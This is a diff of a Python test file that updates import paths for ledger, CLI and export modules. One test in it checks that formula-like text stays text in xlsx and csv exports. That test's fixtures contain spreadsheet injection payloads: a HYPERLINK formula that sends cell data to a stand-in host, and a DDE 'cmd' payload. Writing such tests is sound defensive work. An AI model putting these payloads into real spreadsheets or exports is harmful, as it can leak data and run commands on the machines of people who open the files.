@@ -17,8 +17,8 @@ from openpyxl import load_workbook
 from typer.testing import CliRunner
 
 from generator.forensic.model import ForensicAppraisalCase
-from gongu.cli import app
-from gongu.ledger import COLUMNS, LedgerCase, LedgerRow, Source, build_ledger
+from gongu.cli.app import app
+from gongu.pipeline.ledger import COLUMNS, LedgerCase, LedgerRow, Source, build_ledger
 
 ROOT = Path(__file__).resolve().parents[1]
 EXAMPLES = ROOT / "examples"
@@ -400,7 +400,7 @@ def test_case_text_that_looks_like_a_formula_stays_text_in_xlsx_and_csv() -> Non
     would store it as a formula), an apostrophe before it in csv (Excel then shows the text)."""
     from openpyxl import load_workbook
 
-    from gongu.ledger_export import to_csv, to_xlsx
+    from gongu.pipeline.ledger_export import to_csv, to_xlsx
 
     evil = '=HYPERLINK("http://example.invalid/?"&A2,"详情")'
     data = _case(SINGLE, case_name=evil, institution__name="+cmd|' /C calc'!A0")
